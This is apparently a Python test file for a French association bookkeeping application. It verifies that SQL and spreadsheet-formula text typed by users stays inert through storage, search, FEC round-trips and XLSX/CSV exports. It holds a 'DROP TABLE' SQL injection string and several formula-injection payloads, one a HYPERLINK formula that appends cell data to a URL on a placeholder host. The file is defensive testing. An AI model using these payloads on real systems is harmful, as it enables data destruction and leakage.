"""Text typed by users never runs: not as SQL in the book, not as a formula in a spreadsheet
that opens an export."""

import csv
import datetime as dt
import subprocess

import openpyxl

from tests.helpers import validated
from assocompta.domain.entries import EntryDraft, LineDraft
from assocompta.domain.money import Money
from assocompta.services import reports
from assocompta.services.checks import check_book
from assocompta.services.fec_export import export_fec
from assocompta.services.fec_import import import_fec
from assocompta.services.ledger import add_sub_account, add_tiers, post_entry
from assocompta.services.setup import Identity, create_book
from tests.reports.tools import need

DROP = "x'); DROP TABLE entry; --"
FORMULAS = {
    "label": '=HYPERLINK("http://example.invalid/?"&A1;"Cliquez")',
    "piece": "+1+1",
    "account": "@SUM(1+1)",
    "line": "-2+3",
    "tab": "\t=1+1",
}


def _entry(book):
    add_tiers(book, "EVIL", DROP)
    add_sub_account(book, "2025", "6288", FORMULAS["account"])
    post_entry(book, EntryDraft(dt.date(2025, 3, 1), "BQ", FORMULAS["label"], (
        LineDraft("6288", Money(1234), label=FORMULAS["line"]),
        # On the supplier's account: the FEC names a tiers (CompAuxNum) on third-party accounts only.
        LineDraft("401", credit=Money(1234), tiers="EVIL"),
        ), piece_ref=FORMULAS["piece"]))
    post_entry(book, EntryDraft(dt.date(2025, 3, 2), "BQ", FORMULAS["tab"], (
        LineDraft("6288", Money(100)), LineDraft("512", credit=Money(100), label=DROP)),
        piece_ref=DROP))


def test_sql_text_in_names_and_labels_round_trips(book, tmp_path):
    _entry(book)
    tables = book.scalar("SELECT count(*) FROM sqlite_master WHERE type = 'table'")
    assert book.scalar("SELECT name FROM tiers WHERE code = 'EVIL'") == DROP
    assert book.scalar("SELECT count(*) FROM entry_line WHERE label = :d", d=DROP) == 1
    assert book.scalar("SELECT piece_ref FROM entry WHERE number = 2") == DROP
    # The ledger's text search takes the same text as a value.
    from assocompta.ui.models.ledger_model import LedgerFilter
    where, params = LedgerFilter(text=DROP).clauses(1)
    with book.reading() as conn:
        found = conn.execute("SELECT count(DISTINCT e.id) FROM entry_line l JOIN entry e "
                             "ON e.id = l.entry_id WHERE " + " AND ".join(where),
                             params).fetchone()[0]
    assert found == 2  # by the line's label, the tiers' name and the piece
    # Through the FEC into another book, and back.
    validated(book, "2025", number_pieces=True)
    fec, _ = export_fec(book, "2025", tmp_path / "fec.txt")
    other, _ = create_book(tmp_path / "other.assocompta", Identity("Autre"), dt.date(2025, 1, 1))
    with other:
        import_fec(other, fec)
        assert other.scalar("SELECT name FROM tiers WHERE code = 'EVIL'") == DROP
        assert other.scalar("SELECT count(*) FROM entry") == 2
        assert check_book(other) == []
    assert book.scalar("SELECT count(*) FROM sqlite_master WHERE type = 'table'") == tables
    assert book.scalar("SELECT count(*) FROM entry") == 2
    assert check_book(book) == []


def _texts(path):
    ws = openpyxl.load_workbook(path).active
    return {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_formulas_typed_as_text_stay_text_in_the_grand_livre_exports(book, tmp_path):
    _entry(book)
    report = reports.build(book, "grand-livre", "2025")
    xlsx = reports.write([("Grand livre", report)], tmp_path / "gl.xlsx")
    cells = _texts(xlsx)
    for payload in FORMULAS.values():
        shown = [v for v in cells if payload.strip() in v]
        assert shown, payload
        for value in shown:
            assert cells[value].data_type == "s"
            assert value.startswith(("'", "6288")), value  # neutralised, or after the code
    path = reports.write([("Grand livre", report)], tmp_path / "gl.csv")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    fields = [f for row in rows for f in row[:5]]  # the text columns; amounts may be < 0
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS["label"] in fields and "'" + FORMULAS["piece"] in fields


_CSV_OUT = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false"
_CSV_IN = "CSV:59,34,76,1,,0,false,true,false,false,true"  # evaluate formulas: on


def test_libreoffice_opens_the_exports_without_evaluating_the_text(book, tmp_path):
    soffice = need("soffice")
    _entry(book)
    report = reports.build(book, "grand-livre", "2025")
    xlsx = reports.write([("Grand livre", report)], tmp_path / "gl.xlsx")
    src = reports.write([("Grand livre", report)], tmp_path / "gl.csv")
    env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}
    out = tmp_path / "lo"
    subprocess.run([soffice, "--headless", "--calc", "--convert-to", _CSV_OUT, "--outdir",
                    str(out), str(xlsx)], check=True, capture_output=True, timeout=180, env=env)
    # The CSV export, opened as a spreadsheet would (formulas evaluated), saved as a workbook.
    subprocess.run([soffice, "--headless", "--calc", f"--infilter={_CSV_IN}", "--convert-to",
                    "xlsx", "--outdir", str(out / "csv"), str(src)], check=True,
                   capture_output=True, timeout=180, env=env)
    from_xlsx = (out / "gl.csv").read_text(encoding="utf-8")
    ws = openpyxl.load_workbook(out / "csv" / "gl.xlsx").active
    from_csv = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in from_csv if c.data_type == "f"]
    for payload in ("HYPERLINK", "+1+1", "@SUM(1+1)", "-2+3"):
        assert payload in from_xlsx, payload
        assert any(payload in str(c.value) for c in from_csv), payload
